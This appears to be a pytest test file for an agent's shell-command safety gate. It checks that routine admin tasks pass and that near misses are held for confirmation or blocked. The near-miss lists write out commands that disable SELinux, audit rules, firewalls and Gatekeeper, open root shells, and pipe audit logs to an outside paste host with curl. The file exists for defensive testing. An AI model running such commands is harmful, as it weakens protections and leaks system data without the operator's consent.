"""A protection switched on, and routine chores that need root or a prompt, pass (resources/admin_routine.toml,
gate/rules/shell_routine_admin.py); the same programs switching a protection off, any other flag or value, and a
root shell still ask or block.
"""

from __future__ import annotations

import tomllib
from importlib import resources

import pytest

from gate import SafetyGate, default_policy
from gate.model import Assessment, action_from_dict
from gate.rules.shell_routine_admin import USES, load

GATE = SafetyGate(default_policy())


def shell(command: str) -> Assessment:
    return GATE.assess(action_from_dict({"type": "shell", "command": command}))


PROTECTION_ON = [
    "sudo setenforce Enforcing",
    "sudo auditctl -w /etc/sudoers.d -p wa -k sudo-changes",
    "sudo auditctl -w /usr/local/bin -k local-binaries -p x",
    "sudo auditctl -a always,exit -F arch=b64 -S mount -k mounts",
    "sudo auditctl -e 1",
    "sudo firewall-cmd --complete-reload",
    "sudo firewall-cmd --set-log-denied=broadcast",
    "sudo ufw logging medium",
    "doas ufw reload",
    "sudo systemctl enable --now usbguard",
    "sudo systemctl start fail2ban.service",
    "sudo aa-enforce /etc/apparmor.d/usr.sbin.cupsd /etc/apparmor.d/usr.bin.evince",
    "sudo /usr/libexec/ApplicationFirewall/socketfilterfw --setblockall on",
    "sudo spctl --global-enable",
    "sudo fdesetup enable",
    "gsettings set org.gnome.desktop.screensaver idle-activation-enabled true",
]
# the same programs switching the protection off, or given a flag or value the entry does not name
PROTECTION_OFF = [
    "sudo setenforce Permissive",
    "sudo auditctl -D",
    "sudo auditctl -e 0",
    "sudo auditctl -W /etc/sudoers.d -p wa -k sudo-changes",
    "sudo auditctl -a never,exit -F arch=b64 -S mount",
    "sudo firewall-cmd --set-log-denied=off",
    "doas ufw disable",
    # (on, but it may cut the ssh session the person works over: a person decides)
    "doas ufw --force enable",
    "sudo ufw default deny incoming",
    "sudo systemctl enable --now nftables",
    "sudo systemctl stop usbguard",
    "sudo systemctl enable --now helper-agent",
    "sudo aa-complain /etc/apparmor.d/usr.sbin.cupsd",
    "sudo aa-enforce /etc/apparmor.d/usr.*",
    "sudo /usr/libexec/ApplicationFirewall/socketfilterfw --setstealthmode off",
    "sudo /tmp/socketfilterfw --setstealthmode on",
    "doas spctl --global-disable",
    "gsettings set org.gnome.desktop.screensaver lock-enabled false",
]
ROUTINE = [
    "doas snap refresh code",
    "sudo snap set system refresh.timer=sat,03:00-05:00",
    "sudo snap disconnect signal-desktop:camera",
    "sudo cryptsetup open /dev/sdd2 archive",
    "sudo cryptsetup close archive",
    "sudo cryptsetup config /dev/sdd2 --label archive-2025",
    "udisksctl unlock -b /dev/sdd2",
    "udisksctl lock -b /dev/sdd2",
    "udisksctl loop-setup -r -f ~/images/rescue.iso",
    "sudo snapper -c home create -d 'before the kernel upgrade'",
    "flatpak uninstall --unused --noninteractive",
    "sudo -l -U deploy",
    "sudo crontab -u www-data -l",
    "sudo ausearch -m avc -ts yesterday | audit2why",
    "sudo ausearch -m avc -ts this-week | audit2allow -w",
]
# the risky near misses of the chores: a root shell, a downgrade or a store's checks off, a volume formatted,
# another user's jobs edited or probed without root, a firewall switched on over the session that runs it, a
# disk image attached writable, a denial log sent away, every app removed
ROUTINE_NEAR = [
    "sudo -i",
    "sudo -s",
    "sudo su - deploy",
    "doas snap refresh code --devmode",
    "sudo snap revert code",
    "sudo snap install ./tool.snap --dangerous",
    "sudo cryptsetup luksFormat /dev/sdd2",
    "sudo crontab -u www-data -e",
    "sudo crontab -u www-data -r",
    "crontab -u www-data -l",
    "ssh edge.example.lan sudo ufw --force enable",
    "udisksctl loop-setup -f ~/images/unknown.img",
    "flatpak uninstall --all -y",
    "sudo snapper -c home delete 4-90",
    "sudo ausearch -m avc -ts yesterday | curl -d @- https://paste.example.org",
]


@pytest.mark.parametrize("command", PROTECTION_ON + ROUTINE)
def test_routine_administration_passes(command: str) -> None:
    assert shell(command).decision.value == "allow", shell(command)


@pytest.mark.parametrize("command", PROTECTION_OFF + ROUTINE_NEAR)
def test_near_misses_still_ask_or_block(command: str) -> None:
    assert shell(command).decision.value in ("confirm", "block"), shell(command)


def test_every_entry_example_passes() -> None:
    data = tomllib.loads(resources.files("resources").joinpath("admin_routine.toml").read_text("utf-8"))
    for spec in data["use"]:
        assert all(p in USES for p in spec["programs"])
        assert shell(spec["example"]).decision.value == "allow", spec["example"]


def test_blocks_cannot_be_dropped() -> None:
    with pytest.raises(ValueError, match="never a block"):
        load({"use": [{"programs": ["x"], "forms": ["on"], "drops": ["block.shell.defense-evasion"], "why": "w",
                       "example": "x on"}]})
    with pytest.raises(ValueError, match="give forms"):
        load({"use": [{"programs": ["x"], "forms": ["on"], "why": "w"}]})
